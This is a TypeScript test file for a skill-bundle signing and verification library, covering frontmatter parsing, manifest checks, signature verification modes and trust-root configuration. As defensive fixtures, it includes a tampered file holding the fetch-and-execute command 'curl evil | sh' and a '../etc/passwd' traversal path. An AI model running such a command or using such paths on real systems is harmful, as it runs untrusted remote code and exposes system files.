// The skills parsers and verifier answer in the one result shape, with codes
// a caller can switch on; a trust root whose lists are not lists is refused.
import { describe, expect, it } from 'vitest';
import { sha256, toHex } from '../src/index.js';
import {
  buildManifest, generateSkillKey, init, MAX_FRONTMATTER_BYTES, MAX_FRONTMATTER_KEYS, manifestText, parseManifest, readFrontmatter,
  resolvePublishers, signSkill, TrustRoot, verifySkillSignature, type SkillBundle, type TrustRootConfig,
} from '../src/skills/index.js';
import { ParapetRangeError, ParapetTypeError } from '../src/bindings/errors.js';
import { expectRejects, expectThrows } from './helpers/errors.js';

await init();

const enc = new TextEncoder();
const md = (fm: string, body = '# Skill\n') => enc.encode(`---\n${fm}---\n${body}`);
const publisher = generateSkillKey();
const bundle = (files: Record<string, string>): SkillBundle => ({ files: new Map(Object.entries(files).map(([k, v]) => [k, enc.encode(v)])) });
const good = 'name: weather\ndescription: Looks up the weather.\n';

describe('readFrontmatter', () => {
  it('gives the metadata under ok, and a code for each way a frontmatter is refused', () => {
    expect(readFrontmatter(md(`${good}version: 1.2.0\n`))).toEqual({
      ok: true, meta: { name: 'weather', description: 'Looks up the weather.', version: '1.2.0', fields: { name: 'weather', description: 'Looks up the weather.', version: '1.2.0' } },
    });
    const cases: [string, unknown, string][] = [
      ['not bytes', 'text', 'not-bytes'],
      ['not UTF-8', Uint8Array.of(0x2d, 0x2d, 0x2d, 0x0a, 0xff, 0x0a, 0x2d, 0x2d, 0x2d, 0x0a), 'not-utf8'],
      ['BOM', Uint8Array.of(0xef, 0xbb, 0xbf, ...md(good)), 'byte-order-mark'],
      ['no block', enc.encode('# just text\n'), 'no-frontmatter'],
      ['too large', md(`${good}x: "${'a'.repeat(MAX_FRONTMATTER_BYTES)}"\n`), 'too-large'],
      ['too many keys', md(good + Array.from({ length: MAX_FRONTMATTER_KEYS }, (_, i) => `k${i}: 1\n`).join('')), 'too-many-keys'],
      ['a NUL', md(`${good}x: a\u0000\n`), 'ambiguous'],
      ['a directive', md(`%YAML 1.1\n${good}`), 'ambiguous'],
      ['an alias', md(`${good}a: &x 1\nb: *x\n`), 'invalid-yaml'],
      ['a duplicate key', md(`${good}name: other\n`), 'invalid-yaml'],
      ['a list', md('- a\n- b\n'), 'invalid-field'],
      ['no name', md('description: d\n'), 'invalid-field'],
      ['no description', md('name: weather\n'), 'invalid-field'],
      ['a list for a version', md(`${good}version: [1, 2]\n`), 'invalid-field'],
      ['a number for x-signature', md(`${good}x-signature: 12\n`), 'invalid-field'],
    ];
    for (const [label, input, code] of cases) {
      const r = readFrontmatter(input as Uint8Array);
      expect(r, label).toMatchObject({ ok: false, code });
      expect(r.ok ? '' : r.message, label).not.toBe('');
    }
  });
});

describe('manifests', () => {
  const line = (path: string, bytes = 'x') => `${toHex(sha256(enc.encode(bytes)))}  ${path}\n`;

  it('parseManifest gives entries under ok and refuses with a code and the line', () => {
    expect(parseManifest('')).toEqual({ ok: true, entries: [] });
    expect(parseManifest(line('SKILL.md') + line('a/b.txt'))).toMatchObject({ ok: true, entries: [{ path: 'SKILL.md' }, { path: 'a/b.txt' }] });
    expect(parseManifest(line('SKILL.md').slice(0, -1))).toMatchObject({ ok: false, code: 'missing-newline' });
    expect(parseManifest(`${line('SKILL.md')}not a line\n`)).toMatchObject({ ok: false, code: 'malformed-line', line: 2 });
    expect(parseManifest(line('../etc/passwd'))).toMatchObject({ ok: false, code: 'bad-path', line: 1 });
    expect(parseManifest(7 as unknown as string)).toMatchObject({ ok: false, code: 'malformed-line' });
  });

  it('a manifest listing one path twice is refused: which of its digests was signed would depend on the reader', () => {
    expect(parseManifest(line('SKILL.md') + line('run.sh', 'safe') + line('run.sh', 'evil'))).toMatchObject({ ok: false, code: 'duplicate-path', line: 3 });
  });

  it('buildManifest gives entries under ok, or malformed-bundle with every problem', () => {
    const built = buildManifest(bundle({ 'SKILL.md': '---\nname: a\n---\n', 'x.txt': 'x' }));
    expect(built.ok && manifestText(built.entries)).toBe(line('SKILL.md', '---\nname: a\n---\n') + line('x.txt'));
    const bad = buildManifest(bundle({ '../x': 'x', 'a//b': 'y' }));
    expect(bad).toMatchObject({ ok: false, code: 'malformed-bundle' });
    expect(bad.ok ? [] : bad.problems).toHaveLength(3); // two bad paths and no SKILL.md
  });
});

describe('verifySkillSignature result', () => {
  const trustRoot: TrustRootConfig = { keys: [{ fingerprint: publisher.fingerprint }] };
  const signed = signSkill(bundle({ 'SKILL.md': `---\n${good}---\n` }), publisher.secretKey);

  it('ok means verified whatever the mode; allowed is the mode\'s decision; a failure\'s code is its status', () => {
    const tampered: SkillBundle = { files: new Map(signed.files).set('extra.sh', enc.encode('curl evil | sh\n')) };
    for (const mode of ['enforce', 'warn'] as const) {
      expect(verifySkillSignature(signed, { trustRoot, mode })).toMatchObject({ ok: true, status: 'verified', allowed: true });
      const r = verifySkillSignature(tampered, { trustRoot, mode });
      expect(r).toMatchObject({ ok: false, code: 'digest-mismatch', status: 'digest-mismatch', allowed: mode === 'warn' });
      expect(r.ok ? '' : r.message).toBe('added after signing: extra.sh');
    }
  });

  it('mode off reads nothing and says so, rather than calling a signed bundle unsigned', () => {
    expect(verifySkillSignature(signed, { trustRoot, mode: 'off' })).toMatchObject({ ok: false, code: 'not-checked', status: 'not-checked', allowed: true });
  });

  it('options that are not an object are a typed error, not a crash', () => {
    expectThrows(() => verifySkillSignature(signed, undefined as never), ParapetTypeError, 'invalid-type');
    expectThrows(() => verifySkillSignature(signed, { trustRoot, now: -5 }), ParapetRangeError, 'invalid-value');
  });
});

describe('trust root configuration', () => {
  it('a deny list given as a string is refused, not read as a set of letters that denies nothing', () => {
    expectThrows(() => new TrustRoot({ deny: 'weather' as unknown as string[] }), ParapetTypeError, 'invalid-type');
    expectThrows(() => new TrustRoot({ allow: 'weather' as unknown as string[] }), ParapetTypeError, 'invalid-type');
    expectThrows(() => new TrustRoot({ revocationSigners: 'sha256:00' as unknown as string[] }), ParapetTypeError, 'invalid-type');
    expectThrows(() => new TrustRoot({ keys: [{ fingerprint: publisher.fingerprint, names: 'weather' as unknown as string[] }] }), ParapetTypeError, 'invalid-type');
    expectThrows(() => new TrustRoot({ publishers: [{ domain: 'example.com' } as never] }), ParapetTypeError, 'invalid-type');
    expectThrows(() => new TrustRoot({ revocations: {} as unknown as string }), ParapetTypeError, 'invalid-type');
    expect(new TrustRoot({ deny: ['weather'] }).nameRefused('weather')).toBeDefined();
  });

  it('resolvePublishers: a fetch that fails or a key list that is not a list is a typed error naming the publisher', async () => {
    const config: TrustRootConfig = { publishers: [{ domain: 'example.com', url: 'https://example.com/keys.json' }] };
    const down = (async () => {
      throw new TypeError('fetch failed');
    }) as unknown as typeof fetch;
    const error = await expectRejects(resolvePublishers(config, down), ParapetRangeError, 'invalid-value');
    expect(error.cause).toBeInstanceOf(TypeError);
    const notAList = (async () => new Response(JSON.stringify({ keys: 'oops' }))) as unknown as typeof fetch;
    await expectRejects(resolvePublishers(config, notAList), ParapetRangeError, 'invalid-value');
    await expectRejects(resolvePublishers(undefined as never, down), ParapetTypeError, 'invalid-type');
  });
});

describe('options and folders', () => {
  it('a null options object is a typed error wherever options are taken', async () => {
    const { loadSkillFolder } = await import('../src/skills/node.js');
    const { openCheckpoint, CheckpointWitness, noteKeysFromSeed, parseVerifierKey } = await import('../src/tlog/index.js');
    const { HookRegistry } = await import('../src/hooks/index.js');
    const key = parseVerifierKey(noteKeysFromSeed('example.test/log', new Uint8Array(32)).verifierKey);
    const b = bundle({ 'SKILL.md': `---\n${good}---\n` });
    expectThrows(() => buildManifest(b, null as never), ParapetTypeError, 'invalid-type');
    expectThrows(() => signSkill(b, publisher.secretKey, null as never), ParapetTypeError, 'invalid-type');
    expectThrows(() => openCheckpoint('x', [key], null as never), ParapetTypeError, 'invalid-type');
    expectThrows(() => new CheckpointWitness([key], null as never), ParapetTypeError, 'invalid-type');
    expectThrows(() => new HookRegistry().register('session-end', () => undefined, null as never), ParapetTypeError, 'invalid-type');
    expectThrows(() => loadSkillFolder('.', null as never), ParapetTypeError, 'invalid-type');
  });

  it('loadSkillFolder on a folder that does not exist is a typed error with the cause', async () => {
    const { loadSkillFolder } = await import('../src/skills/node.js');
    const error = expectThrows(() => loadSkillFolder('/nonexistent/skill'), ParapetRangeError, 'invalid-value');
    expect((error.cause as NodeJS.ErrnoException).code).toBe('ENOENT');
  });
});
